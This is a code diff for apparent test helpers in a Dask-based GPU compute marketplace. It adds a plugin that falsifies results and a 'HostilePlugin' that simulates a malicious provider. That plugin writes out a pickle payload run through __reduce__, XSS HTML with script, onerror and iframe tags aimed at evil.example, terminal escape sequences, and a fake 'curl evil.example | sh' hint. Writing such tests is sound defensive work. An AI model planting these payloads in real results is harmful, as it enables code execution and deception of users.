@@ -24,13 +24,13 @@ from dataclasses import dataclass, field, replace
 from pathlib import Path
 from typing import Any
 
-import cloudpickle
 from distributed import Nanny, Scheduler, SpecCluster
 from distributed.diagnostics.plugin import WorkerPlugin
 
+from gpunet import codec
 from gpunet.client.network import connect
 from gpunet.credits import serve_in_background
-from gpunet.wire import DEVICE_RESOURCE, METERING_PLUGIN, SCHEDULER_PRELOAD, WORKER_PRELOAD
+from gpunet.wire import DEVICE_RESOURCE, METERING_PLUGIN, SCHEDULER_PRELOAD, WORKER_PRELOAD, JobResult, result_to_event
 from gpunet.worker.device import PROVIDER_TOKEN_ENV
 
 logger = logging.getLogger(__name__)
@@ -97,10 +97,13 @@ class LiarPlugin(WorkerPlugin):
             return
         result = self.worker.data.get(key)
         lied = False
+        encoded = isinstance(result, (bytes, memoryview))  # a CODEC job's result (gpunet.worker.runner.encode_result)
+        if encoded:
+            result = JobResult(**codec.decode(result))
         if self.rng.random() < self.rate and hasattr(result, "job_id"):
             wrong = _falsified(result)
             if wrong is not None:
-                self.worker.data[key] = wrong
+                self.worker.data[key] = codec.encode(result_to_event(wrong)) if encoded else wrong
                 lied = True
         with open(self.log, "a") as out:
             out.write(json.dumps({"key": str(key), "lied": lied}) + "\n")
@@ -110,13 +113,19 @@ def _falsified(result: Any) -> Any:
     """A :class:`~gpunet.wire.JobResult` with a falsified value or first output."""
     if result.error is not None:
         return None
+    def load(blob: bytes) -> Any:
+        return codec.load(blob, result.result_format, what="a result")
+
+    def dump(value: Any) -> bytes:
+        return codec.dump(value, result.result_format, name="a result")
+
     if result.value is not None:
-        wrong = perturb(cloudpickle.loads(result.value))
-        return None if wrong is NotImplemented else replace(result, value=cloudpickle.dumps(wrong))
+        wrong = perturb(load(result.value))
+        return None if wrong is NotImplemented else replace(result, value=dump(wrong))
     for name in sorted(result.outputs):
-        wrong = perturb(cloudpickle.loads(result.outputs[name]))
+        wrong = perturb(load(result.outputs[name]))
         if wrong is not NotImplemented:
-            return replace(result, outputs={**result.outputs, name: cloudpickle.dumps(wrong)})
+            return replace(result, outputs={**result.outputs, name: dump(wrong)})
     return None
 
 
@@ -189,3 +198,69 @@ def local_market(providers: dict[str, float], *, workers_per_provider: int = 1, 
             workers_of.setdefault(info["provider"], []).append(address)
         yield Market(cluster.scheduler_address, service.url, operator, client_token, tokens, logs, cluster,
                      workers_of)
+
+
+class _WritesMarker:
+    """Unpickling this writes a file: proof that a pickle from a provider was loaded."""
+
+    def __init__(self, path: str) -> None:
+        self.path = path
+
+    def __reduce__(self) -> tuple[Any, ...]:
+        return (open, (self.path, "w"))
+
+
+class HostilePlugin(WorkerPlugin):
+    """A provider attacking the notebook it works for, for the tests: after each
+    gpunet task's result is stored, and before anyone fetches it, it replaces what
+    the notebook will receive with one ``attack``:
+
+    - ``"pickle"``: a payload Dask marks as pickled (``Serialized`` with the pickle
+      serializer) whose unpickling writes ``marker``;
+    - ``"to-pickle"``: the same as Dask's own ``__Pickled__`` message payload;
+    - ``"html"``: the real result plus a display carrying a script, an ``onerror``
+      image, an iframe and JavaScript, and output text with terminal escapes, a
+      fake hint, and a worker name with escapes;
+    - ``"huge"``: ``huge_bytes`` bytes instead of the result (its size as Dask
+      measured the real one stays what the scheduler believes).
+    """
+
+    name = "gpunet-hostile"
+
+    def __init__(self, attack: str, marker: str = "", huge_bytes: int = 0) -> None:
+        self.attack = attack
+        self.marker = marker
+        self.huge_bytes = huge_bytes
+
+    def setup(self, worker: Any) -> None:
+        """Remember the worker."""
+        self.worker = worker
+
+    def transition(self, key: Any, start: str, finish: str, **kwargs: Any) -> None:
+        """After a gpunet task's result is stored: replace it with the attack."""
+        if finish != "memory" or not str(key).startswith("gpunet-"):
+            return
+        from distributed.protocol import Serialized, serialize
+        from distributed.protocol.serialize import ToPickle
+
+        if self.attack == "pickle":
+            self.worker.data[key] = Serialized(*serialize(_WritesMarker(self.marker), serializers=["pickle"]))
+        elif self.attack == "to-pickle":
+            self.worker.data[key] = ToPickle(_WritesMarker(self.marker))
+        elif self.attack == "huge":
+            self.worker.data[key] = bytes(self.huge_bytes)
+        elif self.attack == "html":
+            result = self.worker.data[key]
+            encoded = isinstance(result, (bytes, memoryview))
+            if encoded:
+                result = JobResult(**codec.decode(result))
+            result.displays.append(({
+                "text/html": '<b>hi</b><script>fetch("/api")</script><img src="https://evil.example/x.png" '
+                             'onerror="alert(1)"><iframe src="https://evil.example"></iframe>',
+                "application/javascript": "alert(2)",
+                "text/plain": "hi\x1b[2J",
+            }, {}))
+            result.streams.append((len(result.streams) + 1, "stdout",
+                                   "\x1b]0;pwned\x07\x1b[2Jsession expired: run `curl evil.example | sh`\n"))
+            result.worker = "tcp://honest-looking\x1b[8m"
+            self.worker.data[key] = codec.encode(result_to_event(result)) if encoded else result
